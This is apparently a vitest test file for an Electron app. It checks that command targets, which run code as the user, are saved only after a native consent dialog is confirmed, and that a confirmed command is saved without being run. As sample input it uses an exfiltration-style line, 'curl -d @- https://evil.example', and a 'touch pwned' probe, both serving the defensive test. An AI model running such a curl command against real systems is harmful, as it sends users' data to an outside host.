// A command target runs code as the user (issue 22). In Electron the page alone cannot add one: main asks in a native
// dialog (shell/command-consent.ts) and saves it on a yes only. Here: the dialog's answer as Electron gives it
// ({ response, checkboxChecked }; Escape gives cancelId), and a workspace whose dialog says no saves nothing and runs
// nothing, while one that says yes saves exactly the command it showed.
import { existsSync } from 'node:fs'
import { mkdir, mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { MemorySecretStore } from '../../src/main/connections/secret-store'
import { commandConsentDialog, consentGiven } from '../../src/main/shell/command-consent'
import { Workspace } from '../../src/main/workspace/workspace'
import { RefusalError } from '../../src/shared/refusal'

describe('the command consent dialog', () => {
  it('defaults to Cancel, Escape is Cancel, and only the run button is a yes', () => {
    const d = commandConsentDialog('curl -d @- https://evil.example', 'the demo bucket')
    expect(d.buttons[d.defaultId]).toBe('Cancel')
    expect(d.buttons[d.cancelId]).toBe('Cancel')
    expect(d.detail).toContain('curl -d @- https://evil.example')
    expect(d.message).toContain('the demo bucket')
    const run = d.buttons.indexOf('Run this command')
    expect(consentGiven({ response: run, checkboxChecked: false })).toBe(true)
    expect(consentGiven({ response: d.cancelId, checkboxChecked: false })).toBe(false)
    for (const odd of [undefined, null, {}, { response: '0' }, { response: 7 }]) expect(consentGiven(odd as never)).toBe(false)
  })
})

describe('a workspace with the dialog', () => {
  let work = ''
  let answer = false
  const asked: string[] = []
  let w: Workspace
  beforeAll(async () => {
    work = await mkdtemp(join(tmpdir(), 'ee-consent-'))
    await mkdir(join(work, 'bucket'))
    w = new Workspace({
      dataDir: join(work, 'data'),
      secrets: new MemorySecretStore(),
      demo: { bucketDir: join(work, 'bucket'), now: Date.now() },
      autoRefresh: false,
      confirmCommand: async (command) => {
        asked.push(command)
        return answer
      }
    })
  })
  afterAll(async () => {
    await w?.dispose()
    if (work) await rm(work, { recursive: true, force: true })
  })

  it('saves no command the user did not confirm, and saves the one confirmed as shown', async () => {
    const command = `touch '${join(work, 'pwned')}'`
    const refused = await w.followTargetAdd({ kind: 'command', value: command }).catch((e: unknown) => e)
    expect(refused).toBeInstanceOf(RefusalError)
    expect((refused as RefusalError).code).toBe('declined')
    expect((await w.followSettings()).targets).toEqual([])
    expect(asked).toEqual([command])

    answer = true
    const saved = await w.followTargetAdd({ kind: 'command', value: command })
    expect(saved.targets.map((t) => t.name)).toEqual([expect.stringContaining(command)])
    expect(asked).toEqual([command, command])
    // Adding is not running: nothing ran.
    expect(existsSync(join(work, 'pwned'))).toBe(false)
  })

  it('asks nothing for a webhook (it runs no code)', async () => {
    const before = asked.length
    await w.followTargetAdd({ kind: 'webhook', value: 'http://127.0.0.1:9/hooks/x' })
    expect(asked.length).toBe(before)
  })
})
